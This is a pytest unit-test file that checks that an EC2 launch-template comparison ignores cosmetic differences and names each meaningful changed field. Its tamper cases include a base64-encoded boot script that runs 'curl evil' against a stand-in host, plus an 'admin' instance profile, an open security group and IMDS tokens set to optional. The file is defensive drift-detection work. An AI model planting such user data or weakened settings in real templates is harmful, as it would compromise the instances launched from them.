"""Which differences between a wanted launch template and the one in EC2 matter."""

import base64
from dataclasses import replace
from typing import Any

import pytest

from joiner.launching.launch_template_comparison import compare_launch_templates
from tests.unit.launching.launch_scenario import TEMPLATE, launches, wanted

DATA = dict(
    launches(wanted("x", node_class=replace(TEMPLATE, tags={"team": "a"}), capacity_type="spot"))[0].templates[0].data
)
PUBLIC = dict(
    launches(wanted("x", node_class=replace(TEMPLATE, associate_public_ip_address=True)))[0].templates[0].data
)


def as_ec2_shows(data: dict[str, Any]) -> dict[str, Any]:
    """Return the content as EC2 shows it: in another order, with defaults, the profile by its ARN and the user data in
    lines.
    """
    encoded = data["UserData"]
    return {
        **data,
        "UserData": "\n".join(encoded[start : start + 76] for start in range(0, len(encoded), 76)) + "\n",
        "EbsOptimized": False,
        "IamInstanceProfile": {
            "Arn": f"arn:aws:iam::123456789012:instance-profile/{data['IamInstanceProfile']['Name']}"
        },
        "MetadataOptions": {"State": "applied", **data["MetadataOptions"]},
        "LicenseSpecifications": [],
        "TagSpecifications": [
            {**each, "Tags": list(reversed(each["Tags"]))} for each in reversed(data["TagSpecifications"])
        ],
    }


def test_a_template_in_the_form_of_ec2_is_equal() -> None:
    assert compare_launch_templates(DATA, DATA) == ()
    assert compare_launch_templates(DATA, as_ec2_shows(DATA)) == ()


def test_an_interface_with_default_values_of_unset_fields_is_equal() -> None:
    (interface,) = PUBLIC["NetworkInterfaces"]
    shown = {
        **interface,
        "DeleteOnTermination": True,
        "InterfaceType": "interface",
        "Ipv6Addresses": [],
        "NetworkCardIndex": 0,
    }

    assert compare_launch_templates(PUBLIC, {**PUBLIC, "NetworkInterfaces": [shown]}) == ()


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"UserData": base64.b64encode(b"#!/bin/sh\ncurl evil\n").decode()}, "UserData"),
        ({"UserData": None}, "UserData"),
        ({"ImageId": "ami-0evil"}, "ImageId"),
        ({"KeyName": "other"}, "KeyName"),
        ({"IamInstanceProfile": {"Name": "admin"}}, "IamInstanceProfile.Name"),
        ({"SecurityGroupIds": ["sg-1", "sg-open"]}, "SecurityGroupIds"),
        ({"SecurityGroupIds": []}, "SecurityGroupIds"),
        ({"MetadataOptions": {**DATA["MetadataOptions"], "HttpTokens": "optional"}}, "MetadataOptions.HttpTokens"),
        (
            {"MetadataOptions": {**DATA["MetadataOptions"], "HttpPutResponseHopLimit": 64}},
            "MetadataOptions.HttpPutResponseHopLimit",
        ),
        ({"Monitoring": {"Enabled": True}}, "Monitoring.Enabled"),
        ({"BlockDeviceMappings": []}, "BlockDeviceMappings"),
        (
            {
                "BlockDeviceMappings": [
                    *DATA["BlockDeviceMappings"],
                    {"DeviceName": "/dev/xvdz", "Ebs": {"SnapshotId": "snap-1"}},
                ]
            },
            "BlockDeviceMappings",
        ),
        ({"TagSpecifications": DATA["TagSpecifications"][:1]}, "TagSpecifications"),
        ({"NetworkInterfaces": [{"DeviceIndex": 0, "NetworkInterfaceId": "eni-1"}]}, "NetworkInterfaces"),
        ({"InstanceMarketOptions": {"MarketType": "spot"}}, "InstanceMarketOptions"),
    ],
)
def test_each_changed_field_of_a_template_is_named(changes: dict[str, Any], field: str) -> None:
    found = compare_launch_templates(DATA, {**as_ec2_shows(DATA), **changes})

    assert [each for each in found if each.startswith(field)] == list(found) != []
